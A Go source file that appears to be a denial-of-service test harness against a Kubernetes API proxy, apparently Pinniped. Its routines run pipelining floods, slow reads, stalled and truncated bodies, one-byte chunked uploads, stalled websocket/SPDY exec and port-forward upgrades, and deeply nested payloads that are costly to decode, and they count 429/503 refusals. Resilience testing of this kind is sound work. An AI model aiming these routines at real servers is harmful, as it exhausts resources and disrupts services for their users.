package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

const (
	whoAmIRequests = "/apis/identity.concierge.pinniped.dev/v1alpha1/whoamirequests"
	// pod need not be there.
	podStreams = "/api/v1/namespaces/" + namespace + "/pods/attacked/"
)

// onHTTP1 has a number of workers for each of the attacker's connections. Each opens a connection of HTTP/1.1, does
// something on it, and begins again.
func (a *attacker) onHTTP1(ctx context.Context, each int, do func(conn net.Conn, worker int) error) {
	a.each(ctx, a.Connections*each, func(worker int) error {
		conn, err := a.dial(ctx, "http/1.1")
		if err != nil {
			return err
		}
		defer conn.Close() //nolint:errcheck // it is given up
		return do(conn, worker)
	})
}

// readLittle lets the kernel take little of what comes.
func readLittle(conn net.Conn) {
	if secure, ok := conn.(*tls.Conn); ok {
		if tcp, ok := secure.NetConn().(*net.TCPConn); ok {
			_ = tcp.SetReadBuffer(4 << 10)
		}
	}
}

// post is the head of a request with a body of a kind and a length, or in chunks when the length is below zero.
func post(path, kind string, length int) string {
	how := fmt.Sprintf("Content-Length: %d", length)
	if length < 0 {
		how = "Transfer-Encoding: chunked"
	}
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: proxy\r\nContent-Type: %s\r\n%s\r\n", path, kind, how)
}

// pipelines sends request after request. Half of the connections read no answer.
func pipelines(ctx context.Context, a *attacker) {
	const many = 500
	content := []byte(strings.Repeat("GET /version HTTP/1.1\r\nHost: proxy\r\n\r\n", many))
	a.onHTTP1(ctx, 20, func(conn net.Conn, worker int) error {
		if worker%2 == 0 {
			go func() { _, _ = io.Copy(io.Discard, conn) }()
		} else {
			readLittle(conn)
		}
		for ctx.Err() == nil {
			if _, err := conn.Write(content); err != nil {
				return err
			}
			a.requests.Add(many)
		}
		return nil
	})
}

// expect announces bodies and sends none.
func expect(ctx context.Context, a *attacker) {
	a.onHTTP1(ctx, 100, func(conn net.Conn, _ int) error {
		a.requests.Add(1)
		_, err := io.WriteString(conn, post(configMaps, "application/json", 3_000_000)+"Expect: 100-continue\r\n\r\n")
		if err == nil {
			_, _ = io.Copy(io.Discard, conn)
		}
		return err
	})
}

// chunks sends bodies in chunks of one byte, with extensions.
func chunks(ctx context.Context, a *attacker) {
	content := []byte(strings.Repeat("1;aaaaaaaaaaaaaaa\r\n \r\n", 1000))
	a.onHTTP1(ctx, 20, func(conn net.Conn, _ int) error {
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		a.requests.Add(1)
		_, err := io.WriteString(conn, post(configMaps+"?dryRun=All", "application/json", -1)+"\r\n")
		for err == nil && ctx.Err() == nil {
			_, err = conn.Write(content)
		}
		return err
	})
}

// bodies sends large ones. Every other one stops before its end, when much of it has been read.
func bodies(ctx context.Context, a *attacker) {
	body := `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"generateName":"x-"},"data":{"a":"` +
		strings.Repeat("a", 900_000) + `"}}`
	a.onHTTP1(ctx, manyConnections, func(conn net.Conn, worker int) error {
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		missing := worker % 2
		for ctx.Err() == nil {
			a.requests.Add(1)
			head := post(configMaps+"?dryRun=All", "application/json", len(body)+missing)
			if _, err := io.WriteString(conn, head+"\r\n"+body); err != nil {
				return err
			}
			if missing > 0 {
				<-ctx.Done()
			}
		}
		return nil
	})
}

// slowLists reads lists byte by byte.
func slowLists(ctx context.Context, a *attacker) {
	a.onHTTP1(ctx, 150, func(conn net.Conn, _ int) error {
		readLittle(conn)
		a.requests.Add(1)
		if _, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: proxy\r\n\r\n", configMaps); err != nil {
			return err
		}
		for b := make([]byte, 1); sleep(ctx, patience/2); {
			if _, err := conn.Read(b); err != nil {
				return err
			}
		}
		return nil
	})
}

// sockets opens watches, exec and port-forward as websockets and as SPDY. Half of them read nothing; the others send
// without reading.
func sockets(ctx context.Context, a *attacker) {
	frame := append([]byte{0x82, 0xff, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0}, make([]byte, 64<<10)...)
	kinds := []string{
		allObjects,
		podStreams + "exec?command=true&stdout=true&stdin=true",
		podStreams + "portforward?ports=80",
	}
	a.onHTTP1(ctx, 100, func(conn net.Conn, worker int) error {
		readLittle(conn)
		upgrade := "Upgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13"
		if kind := worker % len(kinds); kind > 0 && worker%2 == 1 {
			upgrade = "Upgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: v4.channel.k8s.io"
		}
		a.requests.Add(1)
		_, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: proxy\r\nConnection: Upgrade\r\n%s\r\n\r\n",
			kinds[worker%len(kinds)], upgrade)
		for err == nil && worker%2 == 0 && ctx.Err() == nil {
			_, err = conn.Write(frame)
		}
		if err == nil {
			sleep(ctx, 10*time.Second)
		}
		return err
	})
}

// whoAmI asks who it is, in YAML and JSON that take much to decode.
func whoAmI(ctx context.Context, a *attacker) {
	many := strings.Repeat("{},", 950_000)
	const group = "identity.concierge.pinniped.dev/v1alpha1"
	kinds := []struct{ kind, body string }{
		{"application/yaml", "apiVersion: " + group + "\nkind: WhoAmIRequest\nx: [" + many + "{}]\n"},
		{"application/json", `{"apiVersion":"` + group + `","kind":"WhoAmIRequest","x":[` + many + "{}]}"},
		{"application/vnd.kubernetes.protobuf", "k8s\x00" + strings.Repeat("\x0a\xff\xff\xff\x07", 100_000)},
		{"application/cbor", "\xd9\xd9\xf7" + strings.Repeat("\x9f", 100_000)},
	}
	a.onHTTP1(ctx, 8, func(conn net.Conn, worker int) error {
		one := kinds[worker%len(kinds)]
		a.requests.Add(1)
		if _, err := io.WriteString(conn, post(whoAmIRequests, one.kind, len(one.body))+"\r\n"+one.body); err != nil {
			return err
		}
		answer := make([]byte, len("HTTP/1.1 000"))
		if _, err := io.ReadFull(conn, answer); err != nil {
			return err
		}
		if bytes.HasSuffix(answer, []byte("429")) || bytes.HasSuffix(answer, []byte("503")) {
			a.refused.Add(1)
		} else {
			a.answered.Add(1)
		}
		return nil
	})
}
